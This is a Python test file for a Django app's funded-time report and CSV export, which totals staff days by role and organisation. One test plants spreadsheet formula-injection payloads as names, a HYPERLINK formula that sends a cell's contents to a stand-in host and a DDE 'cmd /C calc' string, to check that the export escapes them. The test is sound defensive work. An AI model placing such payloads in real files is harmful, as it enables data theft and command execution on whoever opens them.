import csv
import io
from decimal import Decimal

import pytest

from strands.services import strategic_lead_change
from tests.strands.helpers import current_lead, day, person, url

pytestmark = pytest.mark.django_db


def _csv(client) -> list[list[str]]:
    response = client.get(url("funded-time-csv"))
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_it_totals_funded_days_by_role_and_organisation(login):
    client = login("chair")
    body = client.get(url("funded-time")).content.decode()
    # Director 2 days a week (78), administrator 0.5 a week (19.5), finance 1 a half term (6),
    # six strategic leads half a day a week (6 × 19.5 = 117).
    days = '<td class="text-end" data-label="Days a year">'
    assert f'<td data-label="Role">Director</td>{days}78.0</td>' in body
    assert f'<td data-label="Role">Strategic lead</td>{days}117.0</td>' in body
    assert 'id="funded-total" data-label="Days a year">220.5<' in body
    assert "Crampton Primary School" in body


def test_it_counts_a_replaced_lead_for_the_part_of_the_year_each_covered(login, demo):
    client = login("director")
    lead = current_lead("cpd")
    strategic_lead_change(
        actor=demo.user("director"),
        assignment=lead,
        person=person("Fiona Gray"),
        starts_on=day(183),
        funded_days=Decimal("0.5"),
        funded_period="week",
    )
    rows = [row for row in _csv(client) if "Continuing professional development" in row[0]]
    assert len(rows) == 2
    assert sum(Decimal(row[-1]) for row in rows) == Decimal("19.5")
    assert _csv(client)[-1] == ["Total", "", "", "", "", "", "220.5"]


def test_it_exports_a_csv_of_every_funded_assignment(login):
    rows = _csv(login("director"))
    assert rows[0] == ["Role", "Person", "Organisation", "From", "Until", "Funded", "Days a year"]
    assert ["Director", "Ruth Okonjo", "Crampton Primary School"] in [row[:3] for row in rows]


def test_it_neutralises_names_a_spreadsheet_would_run_as_formulas(login):
    director = person("Ruth Okonjo")
    director.full_name = '=HYPERLINK("https://evil.example/?"&A1,"Ruth")'
    director.save()
    school = director.organisation
    school.name = "\t@SUM(1+1)*cmd|' /C calc'!A0"
    school.save()
    response = login("director").get(url("funded-time-csv"))
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # Excel then reads the names as UTF-8
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    [row] = [row for row in rows if row[0] == "Director"]
    assert row[1] == '\'=HYPERLINK("https://evil.example/?"&A1,"Ruth")'
    assert row[2] == "'\t@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[-1][-1] == "220.5"  # numbers stay numbers


def test_the_rows_add_up_to_the_whole_in_a_leap_year():
    # 2027/28 has 366 days: a lead replaced after 183 covers exactly half, 9.75 days each side.
    from strands.selectors import _tenths_that_add_up

    halves = [Decimal("19.5") * 183 / 366] * 2
    assert _tenths_that_add_up(halves) == [Decimal("9.8"), Decimal("9.7")]
    assert _tenths_that_add_up([Decimal("78"), *halves, Decimal("6.04")]) == [
        Decimal("78.0"),
        Decimal("9.8"),
        Decimal("9.7"),
        Decimal("6.0"),
    ]
